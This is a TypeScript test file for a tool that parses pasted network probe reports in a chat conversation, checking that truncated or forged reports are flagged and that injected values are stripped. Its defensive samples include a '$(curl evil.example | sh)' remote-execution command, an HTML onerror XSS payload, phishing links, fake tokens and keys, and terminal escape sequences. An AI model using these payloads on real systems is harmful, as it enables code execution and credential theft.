import { describe, expect, test } from 'vitest';
import { type Language, languages } from '../../src/knowledge/language.js';
import { textsFor } from '../../src/knowledge/texts/index.js';
import { checksumOf } from '../../src/probe/checksum.js';
import { printReport } from '../../src/probe/print-report.js';
import { shown, Talk } from '../support/talk.js';
import { fullReport } from './reports.js';

/** A probe report that somebody pastes into a conversation as it never was printed: what is said, and what is kept. */

const refused =
  'failed to pull image "contoso.azurecr.io/team/app:1": dial tcp 10.1.2.3:443: i/o timeout (kubelet, ImagePullBackOff)';
const block = printReport(fullReport);
const lines = block.split('\n');
const notes = (language: Language) => textsFor(language).vantage.notes;

function talking(text: string, language: Language = 'en') {
  const talk = new Talk(language).say(refused);
  const asked = talk.asked;
  talk.say(text);
  return { talk, asked, said: talk.messages.map(shown).join('\n') };
}

/** Anybody can compute the checksum. */
function forged(change: (line: string) => string): string {
  const body = lines.slice(1, -1).map(change);
  return [lines[0], ...body, `--- ${body.length} sha256 ${checksumOf(body, 'sha256')}`].join('\n');
}

describe.each(languages)('in %s', (language) => {
  test.each([3, 6, 10, lines.length - 1])('cut off after %i lines: it is said', (count) => {
    const { said, talk } = talking(lines.slice(0, count).join('\n'), language);
    expect(said).toContain(notes(language)['report-truncated']);
    expect(talk.asked).not.toBeNull();
  });

  test.each([
    ['an address', block.replace('addr 10.1.2.3', 'addr 10.1.2.4')],
    ['a result', block.replace('tcp contoso.azurecr.io ok', 'tcp contoso.azurecr.io refused')],
    ['the checksum', block.replace(/[0-9a-f]{12}$/, '0123456789ab')],
    ['a line twice, with a checksum', forged((line) => line.replace(/^clock .*/, 'from laptop'))],
  ])('edited, %s: it is said, nothing counts, and the question stays', (_, text) => {
    const { said, talk, asked } = talking(text, language);
    expect(said).toContain(notes(language)['report-edited']);
    expect(talk.conversation.outputs.flatMap(({ seen }) => seen)).toEqual([]);
    expect(talk.asked).toBe(asked);
  });
});

describe('made up to harm', () => {
  const secret = 'eyJhbGciOiJub25lIn0.eyJzdWIiOiJldmlsIn0.QUFBQUFBQUFBQUFBQUFBQUFBQUE';
  const words: Readonly<Record<string, string>> = {
    'a link of Markdown': '[sign in](https://evil.example/x)',
    'a link of Slack': '<https://evil.example|sign in>',
    'everybody in the channel': '<!channel> @everyone',
    HTML: '<img src=x onerror=evil()>',
    'a command': '$(curl evil.example | sh)',
    'a token': secret,
    'a password in a URL': 'https://dana:evilsecretevilsecret@evil.example/',
    'a key': 'AccountKey=ZXZpbGV2aWxldmlsZXZpbGV2aWxldmlsZXZpbGV2aWxldmlsZXZpbA==',
    'a terminal': '\u001b]0;evil\u0007\u001b[2J',
    'the other way round': '\u202eevil',
  };
  const places: Readonly<Record<string, (word: string) => (line: string) => string>> = {
    'the issuer': (word) => (line) => line.replace('issuer Microsoft Corporation', `issuer ${word}`),
    'a chain of names': (word) => (line) => line.replace('cname contoso', `cname ${word}>contoso`),
    'the realm': (word) => (line) => line.replace('challenge contoso.azurecr.io', `challenge ${word}`),
    'the store': (word) => (line) => line.replace('store desktop', `store ${word}`),
    'a version': (word) => (line) => line.replace('28.2.2', word),
    'the repository': (word) => (line) => line.replace('team/my_app', word),
    'the resolver': (word) => (line) => line.replace('resolver 10.0.0.10', `resolver ${word}`),
    'a line of its own': (word) => (line) => line.replace(/^clock .*/, `clock ${word}`),
    'a snippet': (word) => (line) => line.replace(/^clock .*/, `saw issuer: O=${word}`),
  };

  test.each(Object.entries(words))('%s reaches nobody, wherever it stands', (_, word) => {
    for (const [place, put] of Object.entries(places)) {
      const { said, talk } = talking(forged(put(word)));
      const kept = JSON.stringify(talk.conversation);
      for (const text of [said, kept]) {
        expect(text, place).not.toMatch(
          /evil\.example|<img|<!channel|@everyone|\$\(curl|\\?u001b|\u001b|\u202e/,
        );
        expect(text, place).not.toMatch(/eyJhbGci|evilsecret|ZXZpbGV2/);
      }
      expect(talk.last.ask ?? talk.last.outcome, place).not.toBeNull();
    }
  });

  test('a registry of somebody else answers nothing about this one', () => {
    const { talk, said } = talking(block.replaceAll('contoso', 'fabrikam'));
    expect(talk.conversation.outputs.flatMap(({ seen }) => seen)).toEqual([]);
    expect(said).not.toContain('10.0.0.10');
  });

  const long = 'x'.repeat(1_000_000);
  test.each([
    ['with a line without an end', `${block}\n${long}`],
    ['behind a megabyte', `${long}\n${block}`],
    ['of a million words of its form', `${lines[0]}\n${'tcp contoso.azurecr.io ok '.repeat(40_000)}`],
    ['of lines without an end', `${lines[0]}\n${`${lines[4]}\n`.repeat(10_000)}${lines.at(-1)}`],
    ['a thousand times over', `${block}\n`.repeat(1_000)],
    ['with breaks everywhere', `${lines[0]}\n${[...block].join('\n').repeat(200)}\n${lines.at(-1)}`],
    ['of tags', `${lines[0]}\n${'<'.repeat(500_000)}${'[a](http:'.repeat(50_000)}`],
  ])('%s: an answer in little time', (_, text) => {
    const began = performance.now();
    const { talk } = talking(text);
    expect(performance.now() - began).toBeLessThan(4_000);
    expect(talk.last.ask ?? talk.last.outcome).not.toBeNull();
    expect(JSON.stringify(talk.conversation).length).toBeLessThan(50_000);
  });
});
